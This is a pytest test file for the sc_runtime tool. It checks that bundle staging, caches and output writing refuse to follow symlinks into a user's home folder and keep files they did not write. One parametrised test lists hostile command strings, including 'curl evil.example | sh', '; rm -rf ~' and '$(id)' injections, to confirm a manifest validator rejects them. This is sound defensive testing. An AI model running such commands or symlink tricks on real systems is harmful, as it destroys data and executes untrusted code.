"""Archives with links under every name that the program writes, and foreign folders where it would write.

Every link leads to a victim's folder outside. Afterwards the victim's folder holds what it held before.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import soundfile

from sc_runtime import caches
from sc_runtime.bundle.manifest import MANIFEST, Manifest, check_command
from sc_runtime.bundle.store import EMBEDDED, Bundle
from sc_runtime.caches import Cache
from sc_runtime.cli.app import app
from sc_runtime.cli.program import run_command
from sc_runtime.errors import BundleError, OutputError
from sc_runtime.export.staging import staging
from sc_runtime.files import make_folder, write_atomically

pytestmark = pytest.mark.skipif(os.name != "posix", reason="links of POSIX")


def take_picture(folder: Path) -> dict[str, tuple[int, str]]:
    """Every file and folder in `folder`, with its mode and a hash of what it holds."""
    found = {}
    for path in sorted(folder.rglob("*")):
        content = path.read_bytes() if path.is_file() else b""
        found[path.relative_to(folder).as_posix()] = (
            stat.S_IMODE(path.stat().st_mode),
            hashlib.md5(content).hexdigest(),
        )
    return found


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Path]:
    """A home folder outside. It is unchanged after the test."""
    home = tmp_path / "home"
    (home / "thesis").mkdir(parents=True)
    (home / ".bashrc").write_text("export MINE=1\n")
    (home / "thesis" / "thesis.tex").write_text("\\begin{document}")
    before = take_picture(home)
    yield home
    assert take_picture(home) == before


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    target = tmp_path / "engines" / "copy"
    shutil.copytree(EMBEDDED, target)
    return target


def link(path: Path, target: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


# What is written beside and in place of a bundle


@pytest.mark.parametrize("kind", ["file", "folder", "nothing"])
@pytest.mark.parametrize("role", ["partial", "old", "lock"])
def test_links_beside_a_bundle_are_not_followed(victim: Path, copy: Path, role: str, kind: str) -> None:
    target = {"file": victim / ".bashrc", "folder": victim / "thesis", "nothing": victim / ".bash_login"}[kind]
    link(copy.with_name(f".copy.{role}"), target)
    with staging(copy) as stage:
        assert not stage.is_symlink() and not any(stage.iterdir())
        (stage / MANIFEST).write_text("new")
    assert [path.name for path in copy.iterdir()] == [MANIFEST]
    assert not copy.with_name(f".copy.{role}").is_symlink()


def test_a_lock_that_is_another_name_of_a_file_does_not_empty_it(victim: Path, copy: Path) -> None:
    copy.with_name(".copy.lock").hardlink_to(victim / ".bashrc")
    with staging(copy):
        pass


@pytest.mark.parametrize("name", ["hifigan.onnx", "acoustic.npy", MANIFEST, ".verified.json", "plans"])
def test_a_bundle_of_links_is_replaced_without_following_them(victim: Path, copy: Path, name: str) -> None:
    text = (copy / MANIFEST).read_text()
    (copy / name).unlink(missing_ok=True)
    if name == MANIFEST:
        (victim.parent / "outside.json").write_text(text)
        link(copy / name, victim.parent / "outside.json")
    else:
        link(copy / name, victim / "thesis")
    try:
        with staging(copy) as stage:
            (stage / MANIFEST).write_text("new")
    except BundleError as error:
        assert name == "plans" and "holds plans, which no build wrote" in str(error)
    else:
        assert [path.name for path in copy.iterdir()] == [MANIFEST]
    if name == MANIFEST:
        assert (victim.parent / "outside.json").read_text() == text


# Folders of somebody else


@pytest.mark.parametrize("manifest", ["web page", "of this format", "another format", "number", "deep"])
def test_a_foreign_file_beside_a_manifest_and_a_graph_is_kept(tmp_path: Path, manifest: str) -> None:
    raw = json.loads((EMBEDDED / MANIFEST).read_text())
    raw["files"]["thesis.tex"] = {"bytes": 3, "sha256": "0" * 64}
    text = {
        "web page": '{"name": "my page", "icons": []}',
        "of this format": json.dumps(raw),
        "another format": json.dumps({**raw, "format": 1}),
        "number": "2",
        "deep": "[" * 100_000,
    }[manifest]
    folder = tmp_path / "work"
    (folder / "chapters").mkdir(parents=True)
    (folder / MANIFEST).write_text(text)
    (folder / "hifigan.onnx").write_bytes(b"my own network")
    for name in ("thesis.tex", "chapters/1.tex", "measurements.npy"):
        (folder / name).write_text("years")
    before = take_picture(folder)
    refusal = r"work holds (something else than a bundle|.*, which no build wrote); "
    with pytest.raises(BundleError, match=refusal), staging(folder) as stage:
        (stage / MANIFEST).write_text("new")
    assert take_picture(folder) == before
    assert sorted(path.name for path in tmp_path.iterdir()) == [".work.lock", "work"]


@pytest.mark.parametrize("name", ["notes.txt", "more.onnx", "plans/notes.txt", "a/b.onnx", ".git/config"])
def test_one_foreign_file_in_a_bundle_keeps_all_of_it(copy: Path, name: str) -> None:
    (copy / name).parent.mkdir(exist_ok=True)
    (copy / name).write_text("mine")
    before = take_picture(copy)
    refusal = rf"copy holds {name}, which no build wrote; .* choose another --out"
    with pytest.raises(BundleError, match=refusal), staging(copy):
        pass
    assert take_picture(copy) == before


def test_a_file_that_appears_during_a_build_is_kept(copy: Path) -> None:
    with pytest.raises(BundleError, match=r"holds notes\.txt"), staging(copy):
        (copy / "notes.txt").write_text("mine")
    assert (copy / "notes.txt").read_text() == "mine" and (copy / "hifigan.onnx").exists()


@pytest.mark.parametrize("role", ["partial", "old"])
def test_a_hidden_folder_of_somebody_else_is_kept(copy: Path, role: str) -> None:
    folder = copy.with_name(f".copy.{role}")
    folder.mkdir()
    (folder / "thesis.tex").write_text("mine")
    with pytest.raises(BundleError, match=r"holds thesis\.tex, which no build wrote"), staging(copy):
        pass
    assert (folder / "thesis.tex").read_text() == "mine"
    Bundle.load(copy)


def test_a_bundle_with_plans_and_leftovers_is_replaced(copy: Path) -> None:
    """Only the bundle's own files are removed, also if it is damaged, altered or of an earlier version."""
    for name in ("plans/rtx-1.7.1.116-sm89/hifigan.plan", "plans/rtx-1.7.1.116-sm89/hifigan.json", ".verified.json"):
        (copy / name).parent.mkdir(parents=True, exist_ok=True)
        (copy / name).write_text("x")
    (copy / "hifigan.onnx").unlink()
    (copy / MANIFEST).write_text((copy / MANIFEST).read_text().replace("0.0195", "0.0196"))
    with staging(copy) as stage:
        (stage / MANIFEST).write_text("new")
    assert [path.name for path in copy.iterdir()] == [MANIFEST]
    assert sorted(path.name for path in copy.parent.iterdir()) == [".copy.lock", "copy"]


# Caches


@pytest.mark.parametrize("name", caches.NAMES)
def test_a_linked_cache_folder_is_neither_written_nor_emptied(
    victim: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    link(tmp_path / "cache" / "sc-runtime" / name, victim / "thesis")
    cache = Cache(name, ".x")
    cache.write("key", b"data")
    caches.empty()
    caches.prune(0)


def test_links_in_a_cache_are_not_followed(victim: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    cache = Cache("kernels", ".x")
    link(tmp_path / "cache" / "sc-runtime" / "kernels" / f"key.{caches.hash_data(b'data')}.x", victim / ".bashrc")
    cache.write("key", b"data")
    assert cache.read("key") is None
    caches.empty()


# Outputs


@pytest.mark.parametrize("target", [".bashrc", ".config/autostart", "nothing"])
def test_an_output_that_is_a_link_out_of_its_folder_is_refused(victim: Path, tmp_path: Path, target: str) -> None:
    link(tmp_path / "out" / "a.sct", victim / target)
    with pytest.raises(OutputError, match=r"a\.sct: a link that leads to .*; expected a file in this folder: remove"):
        write_atomically(tmp_path / "out" / "a.sct", b"data")


def test_encoding_a_strangers_folder_writes_nothing_outside(
    victim: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """Links beside its recordings, and links in an output folder that it contains, are not followed."""
    source, out = tmp_path / "source", tmp_path / "out"
    (source / "sub").mkdir(parents=True)
    for name in ("a.wav", "sub/b.wav"):
        soundfile.write(source / name, np.zeros(1600, np.float32), 16_000)
    link(source / "a.sct", victim / ".bash_login")
    link(source / "sub" / "b.sct", victim / ".bashrc")
    link(out / "a.sct", victim / ".bashrc")
    link(out / "sub", victim / "thesis")
    for options in ([], ["-o", str(out)]):
        code = run_command(app, ["encode", str(source), "--bundle", str(EMBEDDED), "--force", *options])
        errors = capfd.readouterr().err
        assert code == 1
        assert errors.count("a link that leads") == 2, errors


@pytest.mark.parametrize("name", ["sub", "sub/deeper", "sub/deeper/still"])
def test_no_folder_is_made_through_a_link(victim: Path, tmp_path: Path, name: str) -> None:
    link(tmp_path / "out" / "sub", victim / "thesis")
    with pytest.raises(OutputError, match="a link that leads out of"):
        make_folder(tmp_path / "out" / name, tmp_path / "out")


# Words of a stranger that are printed as advice


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "sc-runtime build; rm -rf ~",
        "sc-runtime build $(id)",
        "sc-runtime build --out /home/me",
        "sc-runtime build --tps 50 --force",
        "python -m export.build --tps `id`",
        "sc-runtime build --tps 50 & id",
        "sc-runtime build --tps '50",
        "",
    ],
)
def test_a_command_that_does_more_than_build_is_refused(copy: Path, command: str) -> None:
    with pytest.raises(ValueError):
        check_command(command)
    raw = json.loads((copy / MANIFEST).read_text())
    raw.pop("sha256", None)
    (copy / MANIFEST).write_text(json.dumps({**raw, "command": command}))
    with pytest.raises(BundleError, match="expected a manifest of format 2"):
        Bundle.load(copy)


def test_the_command_of_an_earlier_version_works_where_it_is_printed() -> None:
    raw = json.loads((EMBEDDED / MANIFEST).read_text())
    raw.pop("sha256", None)
    raw["command"] = "python -m export.build --tps 50 --checkpoint 'my folder' --size tiny"
    assert (
        Manifest.from_json(json.dumps(raw)).command == "sc-runtime build --tps 50 --checkpoint 'my folder' --size tiny"
    )
